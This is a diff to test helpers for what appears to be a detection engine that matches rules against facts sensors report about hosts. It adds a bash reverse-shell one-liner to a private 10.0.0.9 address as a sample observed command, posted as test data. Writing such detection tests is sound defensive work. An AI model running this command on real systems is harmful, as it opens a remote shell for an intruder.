@@ -1,4 +1,4 @@
-"""Helpers of the engine tests: small rule directories written in tmp_path, and running the engine."""
+"""Helpers of the engine tests: small rule directories written in tmp_path, observed facts, running the engine."""
 
 from __future__ import annotations
 
@@ -8,6 +8,10 @@ from pathlib import Path
 from stigmem import logtail
 from stigmem.models import ConsumerCursor
 from ttprules.store import sync_directory
+
+SHELL = "bash -i >& /dev/tcp/10.0.0.9/4444 0>&1"
+HOST = "stigmem://acme/host/web-1"
+SENSOR = "stigmem://acme/agent/sensor"
 
 REVERSE_SHELL = """
     rule_id: {rule_id}
@@ -70,3 +74,19 @@ def engine_position() -> int:
         .first()
         or 0
     )
+
+
+def observe(client, value: str = SHELL, relation: str = "observed:command", entity: str = HOST, **extra) -> dict:
+    """Assert what a sensor saw on a host, through the API; returns the stored fact."""
+    body = {
+        "entity": entity,
+        "relation": relation,
+        "value": {"type": "string", "v": value},
+        "source": SENSOR,
+        "confidence": 0.8,
+        "scope": "team",
+        **extra,
+    }
+    response = client.post("/v1/facts", body, format="json")
+    assert response.status_code == 201, response.content
+    return response.json()
